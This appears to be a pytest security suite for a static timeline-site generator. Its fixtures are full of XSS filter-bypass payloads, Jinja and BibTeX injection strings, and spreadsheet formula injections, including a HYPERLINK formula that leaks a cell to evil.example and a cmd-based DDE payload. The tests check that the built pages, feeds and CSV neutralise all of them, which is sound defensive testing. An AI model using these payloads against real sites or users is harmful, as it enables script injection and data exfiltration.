"""Nothing from content runs in a reader's browser.

A site whose every field carries script payloads (event fields, link titles and URLs, image text,
the body, topic and kind names, site title and tagline) is built once. The pages are checked
statically (no event-handler attribute, no script but ours, no javascript:/data: URL, the JSON-LD
parses) and then loaded in real Chromium with a canary: payloads try to set `window.__pwned` or
open a dialog, and either fails the test. The search box is used with a query matching the event.
"""
from __future__ import annotations

import csv
import io
import json
import re
import shutil
import xml.etree.ElementTree as ET
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest
import yaml
from browser import CHROMIUM_ARGS, chromium_path, serve_directory
from bs4 import BeautifulSoup
from conftest import MINIMAL, REPO

from timeline_site.build import build_site
from timeline_site.config import BuildOptions

SCRIPT = "<script>window.__pwned=1</script>"
IMG = "<img src=x onerror=window.__pwned=1>"
SVG = '"><svg onload=window.__pwned=1>'
FRAME = "'><iframe srcdoc=\"<script>top.__pwned=1</script>\"></iframe>"
BREAKOUT = "</script><script>window.__pwned=1;alert(1)</script>"
JINJA = "{{ 7*7 }}{% if true %}JINJA{% endif %}"
PAYLOADS = [SCRIPT, IMG, SVG, FRAME, BREAKOUT, "javascript:window.__pwned=1", JINJA]
TITLE = "Hostile " + " ".join(PAYLOADS)
BODY = """Hostile body {{ 7*7 }} {% raw %}.

<script>window.__pwned=1</script>
<img src=x onerror="window.__pwned=1">
<svg><script>window.__pwned=1</script></svg>
<svg onload="window.__pwned=1"><circle r="1"/></svg>
<svg><a xlink:href="javascript:window.__pwned=1"><text x="0" y="10">svg link</text></a></svg>
<svg><animate attributeName="href" values="javascript:window.__pwned=1"/></svg>
<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1></style></mglyph></table></mtext></math>
<math><mi xlink:href="javascript:window.__pwned=1">x</mi></math>
<a href="javascript:window.__pwned=1">js link</a>
<a href="JaVaScRiPt:window.__pwned=1">js link 2</a>
<a href="java&#x09;script:window.__pwned=1">tab entity link</a>
<a href="&#106;avascript:window.__pwned=1">entity link</a>
<a href="  javascript:window.__pwned=1">spaced link</a>
<a href="data:text/html,<script>window.__pwned=1</script>">data link</a>
<a href="vbscript:msgbox(1)">vb link</a>
<iframe srcdoc="<script>top.__pwned=1</script>"></iframe>
<object data="javascript:window.__pwned=1"></object>
<embed src="javascript:window.__pwned=1">
<form action="javascript:window.__pwned=1"><button formaction="javascript:window.__pwned=1">go</button></form>
<meta http-equiv="refresh" content="0;url=javascript:window.__pwned=1">
<base href="javascript:window.__pwned=1//">
<link rel="stylesheet" href="javascript:window.__pwned=1">
<style>body{background:url("javascript:window.__pwned=1")}</style>
<div style="background:url(javascript:window.__pwned=1)">styled</div>
<details open ontoggle="window.__pwned=1"><summary>t</summary></details>
<input autofocus onfocus="window.__pwned=1">
<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>"></noscript>
<x onclick=window.__pwned=1>click</x>
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='top.__pwned=1'/>">

[md js link](javascript:window.__pwned=1) [md js link 2](jAvAsCrIpT:window.__pwned=1)
[md data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
![md img](x" onerror="window.__pwned=1) [[alexnet|<img src=x onerror=window.__pwned=1>]]

```html
</script><script>window.__pwned=1</script>
```

</script><script>window.__pwned=1;alert(1)</script>
"""
HOSTILE_EVENT = {
    "title": TITLE,
    "date": "2013-05",
    "kind": "evil",
    "topics": ["evil", "vision"],
    "importance": "landmark",
    "summary": f"Hostile summary {IMG} {SVG} {BREAKOUT}",
    "authors": [SCRIPT, IMG, SVG],
    "organization": [FRAME, BREAKOUT],
    "venue": f"Venue {IMG}",
    "label": "<svg onload=__pwned=1>",
    "doi": "10.1234/\"><img/src=x/onerror=window.__pwned=1>",
    "links": [{"title": f"Link {IMG} {BREAKOUT}", "url": 'https://example.com/"><script>window.__pwned=1</script>'},
              {"title": SVG, "url": "https://example.com/?q=<img/src=x/onerror=window.__pwned=1>&x='\"`"}],
    "image": {"src": "a.png", "alt": f"Alt {SVG}", "credit": f"Credit {IMG}",
              "credit_url": 'https://example.com/"onmouseover="window.__pwned=1'},
    "builds_on": ["alexnet"],
    "body": BODY,
}
HOSTILE_PAPER = {  # a paper, so that it gets BibTeX too
    "title": "Hostile paper } @misc{injected, title={x}} \\input{/etc/passwd} " + BREAKOUT,
    "date": "2013-06", "kind": "paper", "topics": ["evil"], "importance": "notable",
    "summary": "A paper whose fields try to break out of BibTeX.",
    "authors": ["A} and \\input{/etc/passwd} and {B"],
    "links": [{"title": "Source", "url": "https://example.com/}\\input{/etc/passwd}{"}],
}

FORMULA_EVENT = {  # cells that a spreadsheet would run as formulas if events.csv kept them as they are
    "title": '=HYPERLINK("https://evil.example/?leak="&A1,"Click")', "date": "2013-07", "kind": "chip",
    "topics": ["hardware"], "importance": "notable", "summary": "@SUM(1+1)*cmd|' /C calc'!A0",
    "authors": ["+1+1", "-2+3"], "venue": "=1+1",
    "links": [{"title": "=1+1", "url": "https://example.com/x"}],
}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Path:
    """The hostile site, built for /decade/; returns the output folder."""
    root = tmp_path_factory.mktemp("hostile")
    content = root / "content"
    shutil.copytree(MINIMAL, content)
    site = yaml.safe_load((MINIMAL / "site.yaml").read_text())
    site.update(title=f"Site {SCRIPT} {BREAKOUT}", tagline=f"Tagline {IMG}", description=f"Intro {SVG} {JINJA}")
    site["kinds"]["evil"] = {"name": f"Evil {IMG}", "plural": f"Evils {SVG}"}
    (content / "site.yaml").write_text(yaml.safe_dump(site, allow_unicode=True, sort_keys=False))
    topics = yaml.safe_load((MINIMAL / "topics.yaml").read_text())
    topics.append({"id": "evil", "name": f"Evil topic {IMG}", "description": f"Described {SCRIPT} {IMG} "
                                                                            "[x](javascript:window.__pwned=1)."})
    (content / "topics.yaml").write_text(yaml.safe_dump(topics, allow_unicode=True, sort_keys=False))
    (content / "images").mkdir(exist_ok=True)
    (content / "images/a.png").write_bytes((REPO / "static/favicon.svg").read_bytes())
    for name, data in (("hostile", HOSTILE_EVENT), ("hostile-paper", HOSTILE_PAPER), ("formula", FORMULA_EVENT)):
        (content / f"events/2013/{name}.yaml").write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False))
    out = root / "_site"
    build_site(BuildOptions(content, out, REPO / "templates", REPO / "static", base_url="https://example.org/decade/"))
    return out


def html_pages(out: Path) -> list[Path]:
    return sorted(out.rglob("*.html"))


URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "srcdoc", "poster", "background",
                  "srcset", "content", "style"}


# -- the built files, statically --------------------------------------------------------------

def test_no_page_has_an_event_handler_or_a_script_of_its_own(hostile):
    for path in html_pages(hostile):
        soup = BeautifulSoup(path.read_text(), "html.parser")
        for tag in soup.find_all(True):
            handlers = [name for name in tag.attrs if name.lower().startswith("on")]
            assert not handlers, f"{path.relative_to(hostile)}: <{tag.name} {handlers}>"
            if tag.name in {"style", "link"}:  # the templates' own, never content
                text = tag.get_text() + tag.get("href", "")
                assert "pwned" not in text and "javascript" not in text.lower(), f"{path.relative_to(hostile)}: {tag}"
        for region in soup.select(".body, .description"):  # where content's own HTML lands
            unsafe = region.find_all(["script", "iframe", "object", "embed", "base", "form", "input", "button",
                                      "style", "link", "meta", "noscript", "svg", "animate"])
            assert not unsafe, f"{path.relative_to(hostile)}: {[t.name for t in unsafe]}"
        scripts = soup.find_all("script")
        assert all(s.get("src") == "/decade/static/site.js" or s.get("type") == "application/ld+json" for s in scripts)
        raw = path.read_text().lower()
        assert raw.count("<script") == len(scripts), f"{path.relative_to(hostile)}: a <script> outside a script tag"


def test_no_url_attribute_carries_a_script_scheme(hostile):
    for path in html_pages(hostile):
        for tag in BeautifulSoup(path.read_text(), "html.parser").find_all(True):
            for name, value in tag.attrs.items():
                if name.lower() not in URL_ATTRIBUTES:
                    continue
                seen = re.sub(r"[\x00-\x20]", "", str(value)).lower()
                assert not re.search(r"(javascript|vbscript|data):", seen) or tag.name == "meta", \
                    f"{path.relative_to(hostile)}: <{tag.name} {name}={value!r}>"
                if tag.name == "meta":
                    assert tag.get("http-equiv") is None


def test_json_ld_cannot_be_broken_out_of(hostile):
    raw = (hostile / "events/hostile/index.html").read_text()
    blocks = BeautifulSoup(raw, "html.parser").find_all("script", type="application/ld+json")
    assert len(blocks) == 1
    data = json.loads(blocks[0].string)
    assert data["name"] == TITLE
    assert data["description"] == HOSTILE_EVENT["summary"]
    assert [a["name"] for a in data["author"]] == HOSTILE_EVENT["authors"]
    home = BeautifulSoup((hostile / "index.html").read_text(), "html.parser")
    assert json.loads(home.find("script", type="application/ld+json").string)["name"].startswith("Site <script>")


def test_text_fields_are_shown_as_text_and_jinja_is_not_evaluated(hostile):
    soup = BeautifulSoup((hostile / "events/hostile/index.html").read_text(), "html.parser")
    assert soup.h1.get_text() == TITLE
    assert "{{ 7*7 }}" in soup.find(class_="body").get_text() and "49" not in soup.h1.get_text()
    assert soup.find(class_="authors").get_text().startswith(SCRIPT)
    assert f"Link {IMG}" in soup.find(class_="links").get_text()
    home = BeautifulSoup((hostile / "index.html").read_text(), "html.parser")
    assert home.find(class_="site-title").get_text() == f"Site {SCRIPT} {BREAKOUT}"
    assert JINJA in home.get_text() and "JINJA" not in home.get_text().replace(JINJA, "")
    assert "js link" in soup.find(class_="body").get_text()  # the body's HTML was rendered, then cleaned


def test_feed_and_data_files_keep_the_text_and_stay_well_formed(hostile):
    feed = ET.parse(hostile / "feed.xml").getroot()
    ns = {"a": "http://www.w3.org/2005/Atom"}
    assert TITLE in [e.findtext("a:title", namespaces=ns) for e in feed.findall("a:entry", ns)]
    assert feed.findtext("a:title", namespaces=ns) == f"Site {SCRIPT} {BREAKOUT}"
    rows = json.loads((hostile / "search.json").read_text())
    assert any(r["t"] == TITLE and r["s"] == HOSTILE_EVENT["summary"] for r in rows)
    events = json.loads((hostile / "events.json").read_text())["events"]
    assert next(e for e in events if e["id"] == "hostile")["body"] == BODY


def test_bibtex_fields_cannot_be_broken_out_of(hostile):
    entry = (hostile / "events/hostile-paper/hostile-paper.bib").read_text()
    assert "\\input" not in entry
    depth, closed_at = 0, []
    for i, char in enumerate(entry):
        if char in "{}" and (i == 0 or entry[i - 1] != "\\"):
            depth += 1 if char == "{" else -1
            assert depth >= 0, entry
            if depth == 0:
                closed_at.append(i)
    assert closed_at == [len(entry.rstrip()) - 1], entry  # one entry: its braces close only at the very end
    assert "url = {https://example.com/%7D%5Cinput%7B/etc/passwd%7D%7B}" in entry


def test_csv_cells_cannot_run_as_spreadsheet_formulas(hostile):
    """events.csv is offered to readers: a cell starting with = + - @ (or a tab/CR) runs as a formula in
    Excel, LibreOffice and Google Sheets (OWASP "CSV injection"). Such cells must be neutralised."""
    rows = list(csv.DictReader(io.StringIO((hostile / "events.csv").read_text(encoding="utf-8"))))
    row = next(r for r in rows if r["id"] == "formula")
    risky = {name: cell for name, cell in row.items() if cell[:1] in ("=", "+", "-", "@", "\t", "\r")}
    assert risky == {}


# -- in Chromium ------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def chromium():
    """Chromium in a thread of its own: Playwright's sync API cannot nest in the thread of another test
    module's browser. Yields `run(fn, *args)`, which calls fn(browser, *args) in that thread."""
    pool = ThreadPoolExecutor(1, thread_name_prefix="chromium")

    def start():
        from playwright.sync_api import sync_playwright

        playwright = sync_playwright().start()
        return playwright, playwright.chromium.launch(executable_path=chromium_path(), args=CHROMIUM_ARGS)

    playwright, browser = pool.submit(start).result(timeout=120)
    yield lambda fn, *args: pool.submit(fn, browser, *args).result(timeout=120)
    pool.submit(lambda: (browser.close(), playwright.stop())).result(timeout=60)
    pool.shutdown()


@pytest.fixture(scope="module")
def served(hostile):
    server, base = serve_directory(hostile)
    yield base
    server.shutdown()
    server.server_close()


def visit(browser, url: str, query: str | None = None, box: str = "#search-page-q") -> dict:
    """Load `url` (and type `query` into the search `box`); report dialogs, canaries and search results."""
    context = browser.new_context()
    context.add_init_script("window.__pwned = undefined;")
    page = context.new_page()
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    response = page.goto(url, wait_until="load")
    assert response is not None and response.status in (200, 404), url
    results = []
    if query is not None:
        page.locator(box).fill(query)
        results_box = page.locator(box).locator("xpath=..").locator(".search-results a").first
        results_box.wait_for(timeout=10_000)
        results = page.locator(box).locator("xpath=..").locator(".search-results a").all_text_contents()
    page.mouse.move(5, 5)
    page.keyboard.press("Tab")
    page.wait_for_timeout(300)
    canaries = [frame.evaluate("() => window.__pwned === undefined ? null : String(window.__pwned)")
                for frame in page.frames]
    context.close()
    return {"dialogs": dialogs, "pwned": [c for c in canaries if c is not None], "results": results}


def test_the_canary_catches_a_script_that_runs(chromium, served, hostile):
    """A check of the check: a page with an unescaped payload trips both alarms."""
    (hostile / "canary.html").write_text(f"<!doctype html><p>{IMG}<script>alert('canary')</script></p>")
    try:
        seen = chromium(visit, served + "canary.html")
    finally:
        (hostile / "canary.html").unlink()
    assert seen["pwned"] == ["1"] and seen["dialogs"] == ["canary"]


@pytest.mark.parametrize("path", ["", "years/2013/", "topics/evil/", "kinds/evil/", "events/hostile/",
                                  "events/hostile-paper/", "events/alexnet/", "data/", "search/", "no-such-page/",
                                  "search/?q=%3Cimg%20src%3Dx%20onerror%3Dwindow.__pwned%3D1%3E", "feed.xml"])
def test_no_script_from_content_runs_on_any_page(chromium, served, path):
    seen = chromium(visit, served + path)
    assert seen["pwned"] == [] and seen["dialogs"] == []


def test_search_results_for_the_hostile_event_are_text(chromium, served):
    seen = chromium(visit, served + "search/", "Hostile")
    assert seen["pwned"] == [] and seen["dialogs"] == []
    assert any(text.startswith(TITLE) for text in seen["results"]), seen["results"]


def test_header_search_box_shows_payloads_as_text(chromium, served):
    seen = chromium(visit, served + "events/hostile/", "svg onload", "#search-q")
    assert seen["pwned"] == [] and seen["dialogs"] == []
    assert any("<svg onload" in text for text in seen["results"]), seen["results"]
